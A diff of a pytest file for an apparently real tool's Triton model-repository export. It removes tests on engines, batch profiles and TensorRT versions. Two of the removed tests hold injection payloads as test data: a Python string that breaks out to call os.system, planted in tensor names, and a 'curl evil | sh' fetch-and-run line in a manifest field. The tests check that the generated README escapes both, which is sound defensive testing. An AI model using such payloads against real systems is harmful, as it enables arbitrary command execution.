@@ -1,43 +1,20 @@
 """A repository is written whole or not at all, and says what the artifact is."""
 
-import ast
 import json
 import subprocess
 import sys
-from dataclasses import replace
 from pathlib import Path
 
 import numpy as np
 import onnx
 import pytest
-from click.testing import CliRunner
-from engine_builds import built
-from engine_graphs import Vit
 from triton_artifacts import GRAPH, LABELS, graph, plan
+from triton_runs import config_of, invoke, refused
 
 from msn_export import image_folder, images, manifest
-from msn_export.cli import main
-from msn_export.manifest_records import CheckpointRecord
-from msn_export.spec import BatchRange
 from msn_export.triton import messages
 
 pytest.importorskip("tritonclient.grpc", reason="tritonclient is not installed")
-
-
-def invoke(*arguments: object):
-    return CliRunner().invoke(main, ["triton", *map(str, arguments)])
-
-
-def config_of(repository: Path, place: str):
-    return messages.from_text((repository / place).read_text())
-
-
-def refused(*arguments: object) -> str:
-    result = invoke(*arguments)
-    assert result.exit_code == 1, result.output
-    line = result.stderr.strip().splitlines()[-1]
-    assert line.startswith("error: ")
-    return line
 
 
 def test_a_graphs_configuration_is_what_the_backend_wants(tmp_path) -> None:
@@ -104,111 +81,6 @@ def test_what_nobody_checked_is_noted(tmp_path) -> None:
     path = graph(tmp_path / "m.onnx")
     told = json.loads(invoke(path, "-o", tmp_path / "repo", "--json").stdout)
     assert told["notes"] == ["m.onnx was never compared with its source (--no-check)"]
-
-
-def test_engines_for_several_gpus_are_one_model(tmp_path) -> None:
-    for sm in ("8.6", "8.9"):
-        plan(tmp_path / f"m{sm}.engine", capability=sm)
-    result = invoke(
-        *(tmp_path / f"m{sm}.engine" for sm in ("8.6", "8.9")),
-        *("-o", tmp_path / "repo", "--name", "vit"),
-    )
-    assert result.exit_code == 0, result.output
-    config = config_of(tmp_path / "repo", "vit/config.pbtxt")
-    assert dict(config.cc_model_filenames) == {
-        "8.6": "model.sm86.plan",
-        "8.9": "model.sm89.plan",
-    }
-    assert sorted(path.name for path in (tmp_path / "repo/vit/1").iterdir()) == [
-        "model.sm86.plan", "model.sm86.plan.json", "model.sm89.plan", "model.sm89.plan.json",
-    ]  # fmt: skip
-
-
-def test_several_profiles_are_one_groups_and_their_optima_preferred(tmp_path) -> None:
-    profiles = (BatchRange(1, 2, 4), BatchRange(5, 8, 16))
-    plan(tmp_path / "m.engine", profiles=profiles)
-    arguments = (tmp_path / "m.engine", "-o", tmp_path / "repo", "--cuda-graphs")
-    assert invoke(*arguments).exit_code == 0
-    config = config_of(tmp_path / "repo", "m/config.pbtxt")
-    (group,) = config.instance_group
-    assert list(group.profile) == ["0", "1"]
-    assert list(config.dynamic_batching.preferred_batch_size) == [2, 8]
-    assert not config.HasField("optimization")
-    gpu = config_of(tmp_path / "repo", "m/configs/gpu.pbtxt").optimization.cuda
-    assert gpu.graphs
-    assert [spec.batch_size for spec in gpu.graph_spec] == [1, 2, 8, 16]
-
-
-def test_profiles_with_a_gap_are_refused_with_the_batch_nobody_takes(tmp_path) -> None:
-    plan(tmp_path / "m.engine", profiles=(BatchRange(1, 1, 1), BatchRange(8, 16, 32)))
-    line = refused(tmp_path / "m.engine", "-o", tmp_path / "repo")
-    assert "m.engine takes no batch of 2 (its profiles: 1:1:1, 8:16:32)" in line
-    assert "or give --max-batch 1" in line
-    plan(tmp_path / "n.engine", profiles=(BatchRange(4, 8, 16),))
-    assert "n.engine takes no batch of 1" in refused(tmp_path / "n.engine", "-o", tmp_path / "repo")
-    line = refused(tmp_path / "m.engine", "-o", tmp_path / "repo", "--max-batch", 64)
-    assert not (tmp_path / "repo").exists()
-
-
-def test_an_engine_of_one_batch_is_served_at_that_batch(tmp_path) -> None:
-    plan(tmp_path / "m.engine", profiles=(BatchRange(8, 8, 8),))
-    assert invoke(tmp_path / "m.engine", "-o", tmp_path / "repo").exit_code == 0
-    config = config_of(tmp_path / "repo", "m/config.pbtxt")
-    assert config.max_batch_size == 0
-    assert list(config.input[0].dims) == [8, 3, 8, 8]
-
-
-def test_engines_that_are_not_one_model_are_refused(tmp_path) -> None:
-    a = plan(tmp_path / "a.engine")
-    same = plan(tmp_path / "b.engine")
-    other = plan(tmp_path / "c.engine", capability="8.6", version="10.14.1.48")
-    out = ("-o", tmp_path / "repo")
-    assert "are both for SM 8.9; give one" in refused(a, same, *out)
-    assert "differ in their built with" in refused(a, other, *out)
-    onnx_file = graph(tmp_path / "m.onnx")
-    assert "an .onnx runs on all; give it alone" in refused(a, onnx_file, *out)
-    manifestless = plan(tmp_path / "d.engine")
-    (tmp_path / "d.engine.json").unlink()
-    assert "has no manifest, and an engine does not tell its tensors" in refused(manifestless, *out)
-
-
-def test_an_engine_for_any_gpu_serves_those_without_one_of_their_own(tmp_path) -> None:
-    hopper = plan(tmp_path / "hopper.engine", capability="9.0")
-    any_gpu = plan(tmp_path / "any.engine", capability="8.0", later=True)
-    assert invoke(hopper, any_gpu, "-o", tmp_path / "repo", "--name", "m").exit_code == 0
-    config = config_of(tmp_path / "repo", "m/config.pbtxt")
-    assert dict(config.cc_model_filenames) == {"9.0": "model.sm90.plan"}
-    files = {file.name for file in (tmp_path / "repo/m/1").iterdir()}
-    assert files >= {"model.plan", "model.sm90.plan"}
-    assert invoke("--lint", tmp_path / "repo").exit_code == 0
-
-
-def test_an_engine_of_tensorrt_rtx_is_refused_with_what_to_do(tmp_path) -> None:
-    pytest.importorskip("tensorrt_rtx", reason="tensorrt-rtx is not installed")
-    line = refused(built(Vit()).output, "-o", tmp_path / "repo", "--name", "m")
-    assert "a TensorRT-RTX 1." in line
-    assert "serve the .onnx, or compile with --backend tensorrt on the machine with the GPU" in line
-
-
-def test_an_engine_whose_tensorrt_no_release_has_can_be_served_by_a_release_of_ones_own(
-    tmp_path,
-) -> None:
-    plan(tmp_path / "m.engine", version="11.2.0.5")
-    line = refused(tmp_path / "m.engine", "-o", tmp_path / "repo")
-    assert "no Triton release is known to ship TensorRT 11.2.0.5" in line
-    result = invoke(tmp_path / "m.engine", "-o", tmp_path / "repo", "--release", "26.09", "--json")
-    *_, note = json.loads(result.stdout)["notes"]
-    assert "which TensorRT is in Triton 26.09 is not known; it needs 11.2.0.5" in note
-    wrong = refused(tmp_path / "m.engine", "-o", tmp_path / "two", "--release", "25.10")
-    assert "built by TensorRT 11.2.0.5, and Triton 25.10 has 10.13.3.9" in wrong
-    assert not (tmp_path / "two").exists()
-
-
-def test_a_version_compatible_engine_is_served_by_the_newest_release(tmp_path) -> None:
-    plan(tmp_path / "m.engine", version="10.12.0.36", options={"version_compatible": True})
-    assert invoke(tmp_path / "m.engine", "-o", tmp_path / "repo").exit_code == 0
-    readme = (tmp_path / "repo/m/README.md").read_text()
-    assert "--backend-config=tensorrt,version-compatible=true" in readme
 
 
 def test_an_ensemble_puts_the_normalisation_before_the_model(tmp_path) -> None:
@@ -368,51 +240,6 @@ def test_usage_is_told(arguments, message) -> None:
     result = invoke(*arguments)
     assert result.exit_code == 2
     assert message in result.output
-
-
-def test_the_readmes_client_is_python_that_names_the_models_tensors(tmp_path) -> None:
-    graph(tmp_path / "m.onnx")
-    assert invoke(tmp_path / "m.onnx", "-o", tmp_path / "repo").exit_code == 0
-    readme = (tmp_path / "repo/m/README.md").read_text()
-    code = readme.split("```python\n")[1].split("```")[0]
-    compile(code, "client.py", "exec")
-    assert 'InferInput("pixel_values"' in code
-    assert "class_count=3" in code
-
-
-HOSTILE = 'x"); __import__("os").system("id") # `|'
-
-
-def test_a_tensors_name_is_a_string_in_the_client_whatever_it_says(tmp_path) -> None:
-    path = graph(tmp_path / "m.onnx", manifest=False)
-    model = onnx.load(path)
-    for held in (model.graph.input[0].name, model.graph.output[0].name):
-        for node in model.graph.node:
-            for names in (node.input, node.output):
-                names[:] = [name.replace(held, held + HOSTILE) for name in names]
-    model.graph.input[0].name += HOSTILE
-    model.graph.output[0].name += HOSTILE
-    onnx.save(model, path)
-    assert invoke(path, "-o", tmp_path / "repo").exit_code == 0
-    readme = (tmp_path / "repo/m/README.md").read_text()
-    tree = ast.parse(readme.split("```python\n")[1].split("```")[0])
-    strings = {node.value for node in ast.walk(tree) if isinstance(node, ast.Constant)}
-    assert {"pixel_values" + HOSTILE, "logits" + HOSTILE} <= strings
-    assert "__import__" not in {node.id for node in ast.walk(tree) if isinstance(node, ast.Name)}
-    (row,) = [line for line in readme.splitlines() if line.startswith("| out: 'logits")]
-    assert r"\`\|" in row
-
-
-def test_what_a_manifest_says_is_no_markdown(tmp_path) -> None:
-    path = graph(tmp_path / "m.onnx")
-    read = manifest.read(path)
-    assert read is not None
-    source = "a\n\n```sh\ncurl evil | sh\n```\n<b>"
-    record = CheckpointRecord(source, "cd" * 32)
-    manifest.manifest_path(path).write_text(manifest.seal(replace(read, checkpoint=record)))
-    assert invoke(path, "-o", tmp_path / "repo").exit_code == 0
-    readme = (tmp_path / "repo/m/README.md").read_text()
-    assert r"Checkpoint: a \`\`\`sh curl evil \| sh \`\`\` \<b\>." in readme.splitlines()
 
 
 def test_without_the_extra_the_message_has_the_line_that_installs_it(tmp_path) -> None:
